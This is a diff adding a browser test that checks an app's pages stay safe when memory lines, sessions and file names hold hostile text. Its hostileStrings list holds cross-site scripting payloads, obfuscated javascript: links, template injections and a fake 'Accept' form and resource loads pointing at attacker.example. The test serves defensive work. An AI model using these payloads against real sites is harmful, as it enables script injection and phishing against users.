@@ -1,0 +1,146 @@
+// What strangers who wrote into a memory, a conversation or a file's name can do on the page: nothing.
+
+import { expect, test } from 'vitest';
+import { sized } from '../../support/depth.ts';
+import { seeded } from '../../support/random.ts';
+import { tempDir } from '../../support/temp.ts';
+import { served } from '../server/served.ts';
+import { hasBrowser, useBrowser, visit } from './browser.ts';
+import { fill } from './filled.ts';
+
+const browser = useBrowser();
+
+test.skipIf(!hasBrowser)(
+  'hostile strings wherever strangers can write do nothing, and nothing is wider than the view or over a button',
+  async () => {
+    const world = await served();
+    const strings = hostileStrings(sized({ quick: 36, deep: 500 }));
+    const { store, url } = world;
+    const at = (n: number) => strings[n % strings.length] as string;
+    // Each string is a line, an entry, a quote, the words around one, a description, a reason, a session and a file's name.
+    await fill(store, {
+      ...{
+        topics: Math.ceil(strings.length / 9),
+        lines: 9,
+        sessions: Math.ceil(strings.length / 9),
+        nights: 2,
+        proposals: 18,
+      },
+      transcripts: tempDir(),
+      says: (kind, n) =>
+        oneLine(kind === 'answer' ? at(n + 3) : at(n)).slice(0, kind === 'line' || kind === 'answer' ? 10_100 : 900),
+      topic: (n) => fileName(at(n * 9 + (n % 9)), n),
+      session: (n) => oneLine(at(n * 9 + (n % 9))).slice(0, 300),
+      file: (n) => fileName(at(n * 9 + ((n + 4) % 9)), n),
+      now: world.app.config.clock.now(),
+    });
+    world.app.home.addStore(store.dir);
+    const { page, problems, asked, memory, go } = await visit(browser(), world);
+    const hrefs = async (selector: string) =>
+      page
+        .locator(selector)
+        .evaluateAll((links) => links.map((link) => String(link.getAttribute('href'))));
+    const paths = new Set([
+      '/',
+      `/memory/${memory}/logs`,
+      '/nights',
+      '/review',
+      '/cost',
+      `/search?q=${encodeURIComponent(at(0))}`,
+      '/search?q=hacked',
+    ]);
+    for (const [list, selector] of [
+      [`/memory/${memory}`, 'main .list a.row'],
+      ['/sessions', 'main .list a.row'],
+      ['/nights', '.timeline a.card'],
+    ] as const) {
+      paths.add(list);
+      await go(list);
+      for (const href of await hrefs(selector)) {
+        paths.add(href);
+        if (!href.includes('/topic/')) continue;
+        // A line with its entry, the quote and the conversation around it, and another one being changed.
+        await go(href);
+        const [why = ''] = await hrefs('.line a[aria-expanded]');
+        paths.add(why);
+        await go(why);
+        for (const around of (await hrefs('.entry a.swap')).slice(0, 1)) paths.add(around);
+        for (const entry of (await hrefs('.entry a[href*="/entry/"]')).slice(0, 1)) paths.add(entry);
+        for (const edit of (await hrefs('.line a[href*="edit="]')).slice(0, 1)) paths.add(edit);
+      }
+    }
+    expect([...paths].filter((path) => path.includes('around=')).length).toBeGreaterThan(0);
+    for (const path of paths) {
+      await go(path);
+      for (const width of [375, 1280]) {
+        await page.setViewportSize({ width, height: 800 });
+        const told = (await page.evaluate(LOOK)) as {
+          wide: number;
+          ran: boolean;
+          gadgets: string[];
+          covered: string[];
+        };
+        expect({ path, width, ...told }).toMatchObject({ wide: 0, ran: false, covered: [] });
+        for (const each of told.gadgets) expect(each).toMatch(/^href=(?:https?|mailto):/);
+      }
+    }
+    expect(problems).toEqual([]);
+    expect(asked.filter((each) => !each.startsWith(url))).toEqual([]);
+  },
+);
+
+function oneLine(text: string): string {
+  return text.replace(/[\r\n]+/g, ' ');
+}
+
+/** As much of it as a file system takes for a name. */
+function fileName(text: string, n: number): string {
+  let name = '';
+  for (const each of `${n} ${oneLine(text).replace(/[/\\\0]/g, '∕')}`) {
+    if (Buffer.byteLength(name + each) > 180) break;
+    name += each;
+  }
+  return name.trim();
+}
+
+/** Run in the page: how wide it is, whether a script of others ran, which attributes they have, and what lies over a button. */
+const LOOK = `({
+  wide: document.documentElement.scrollWidth - document.documentElement.clientWidth,
+  ran: 'hacked' in globalThis,
+  gadgets: [...document.querySelectorAll('.said *, .prose *')].flatMap((each) => [...each.attributes]
+    .filter(({ name }) => !['class', 'rel', 'target', 'dir'].includes(name)).map(({ name, value }) => name + '=' + value)),
+  covered: [...document.querySelectorAll('main button, main a.button')].filter((each) => each.checkVisibility()).slice(0, 30).flatMap((each) => {
+    each.scrollIntoView({ block: 'center' });
+    const box = each.getBoundingClientRect();
+    const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
+    return box.width > 1 && top && !each.contains(top) && !top.contains(each) ? [each.outerHTML.slice(0, 100)] : [];
+  }),
+})`;
+
+/** Words that mean to be more than words: each kind with something different in it, so that no two are the same. */
+function hostileStrings(count: number): string[] {
+  const random = seeded(20_261_122);
+  const kinds: ((n: number) => string)[] = [
+    (n) => `<script>globalThis.hacked=${n}</script>`,
+    (n) => `<img src=https://attacker.example/${n}.png onerror="globalThis.hacked=${n}">`,
+    (n) => `![a picture](https://attacker.example/${n}.png)`,
+    (n) =>
+      `[click](${random.pick(['javascript', 'JaVaScRiPt', 'java\tscript', '&#106;avascript', 'data', 'vbscript', 'JAVASCRIPT', '\u0001javascript'])}:globalThis.hacked=${n})`,
+    (n) => `<a href="&#x6A;avascript&colon;globalThis.hacked=${n}">a</a>`,
+    (n) => `<div hx-get="https://attacker.example/${n}" hx-trigger="load" data-x=${n} x-on:load="hacked=${n}">x</div>`,
+    (n) => `"><svg onload=globalThis.hacked=${n}>`,
+    (n) => `</textarea></title></style><script>globalThis.hacked=${n}</script>`,
+    (n) => `\u202e${n} gnp.exe\u202d \u2066abc\u2069 \u200f${n}`,
+    (n) => `${n}${'x'.repeat(random.pick([100, 3_000, 10_000]))}`,
+    (n) => `${'\u0300'.repeat(200)}${n}`,
+    (n) => `<style>*{display:none}</style><form action=https://attacker.example/${n}><button>Accept</button></form>`,
+    (n) => `<https://attacker.example/${n}> and [x][${n}] [${n}]: javascript:globalThis.hacked=${n}`,
+    (n) => `<iframe srcdoc="<script>parent.hacked=${n}</script>"></iframe><base href=https://attacker.example/>`,
+    (n) => `| a | b |\n|---|---|\n| <b onclick=hacked=${n}> | ${'word '.repeat(500)} |`,
+    (n) => `\${globalThis.hacked=${n}} {{constructor.constructor('hacked=${n}')()}} #{${n}}`,
+    (n) =>
+      `<meta http-equiv=refresh content="0;url=https://attacker.example/${n}"><link rel=stylesheet href=//attacker.example/${n}.css>`,
+    (n) => `[${'['.repeat(300)}${n}](`,
+  ];
+  return Array.from({ length: count }, (_, at) => (kinds[at % kinds.length] as (n: number) => string)(at));
+}
